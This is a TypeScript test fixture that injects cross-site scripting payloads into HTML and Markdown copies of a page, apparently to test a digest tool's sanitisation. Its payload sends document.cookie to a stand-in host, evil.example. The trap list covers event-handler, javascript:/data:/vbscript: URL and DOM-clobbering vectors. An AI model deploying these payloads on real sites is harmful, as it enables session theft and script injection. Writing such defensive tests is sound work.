import { localFile, longSequences, textOf, type LocalFile } from "./files.ts";

/** What a script in a digest would do if it ran: leave a trace in the page, and make a request. */
export const TRACE = "duiduRan";
const run = `window.${TRACE}=1;alert(1);fetch('https://evil.example/?'+document.cookie)`;

/** Markup that runs or makes requests if foreign text becomes markup. */
const traps = [
  `<script>${run}</script>`,
  `<script src="https://evil.example/run.js"></script>`,
  `<img src="x" onerror="${run}">`,
  `<svg onload="${run}"><a xlink:href="javascript:${run}"><text>svg</text></a></svg>`,
  `<iframe src="javascript:parent.${TRACE}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${TRACE}=1</script>"></iframe>`,
  `<details open ontoggle="${run}"><summary onclick="${run}">x</summary></details>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<form name="body"><input name="innerHTML" autofocus onfocus="${run}"></form>`,
  `<link rel="stylesheet" href="https://evil.example/style.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<object data="https://evil.example/"></object><embed src="https://evil.example/">`,
  `<video src="https://evil.example/v" autoplay onloadstart="${run}"></video>`,
  `<a href="javascript:${run}">PDF</a><a href="data:text/html,<script>${run}</script>">Code</a>`,
  `<template><script>${run}</script></template><noscript><img src=x onerror="${run}"></noscript>`,
].join("\n");

/** The page "Long Sequences" with traps in its head, its text and its attributes. */
export async function hostilePage(): Promise<LocalFile> {
  const page = textOf(await longSequences("page"))
    .replace("</head>", `${traps}</head>`)
    .replaceAll("</h2>", ` <img src=x onerror="${run}"></h2>${traps}`)
    .replaceAll("<li>", `<li onmouseover="${run}"><a href="javascript:${run}">x</a> `)
    .replaceAll("https://picx.zhimg.com/", "javascript:")
    .replace("</body>", `${traps}</body>`);
  return localFile("hostile.html", page);
}

/** The Markdown "Long Sequences" whose links and images lead to scripts. */
export async function hostileMarkdown(): Promise<LocalFile> {
  const markdown = textOf(await longSequences("markdown"))
    .replaceAll(
      "Code: https://",
      "Code: [here](javascript:alert(1)) [there](data:text/html,x) https://",
    )
    .replaceAll("[Cool Papers](https:", "[Cool Papers](JaVaScRiPt:")
    .replaceAll("1. ", "1. [链接](javascript:alert(1)) <b onclick=alert(1)>粗</b> ")
    .replaceAll('src="https://picx.zhimg.com/', 'src="vbscript:')
    .replace("**Summary**", `${traps}\n\n**Summary**`);
  return localFile("hostile.md", markdown);
}
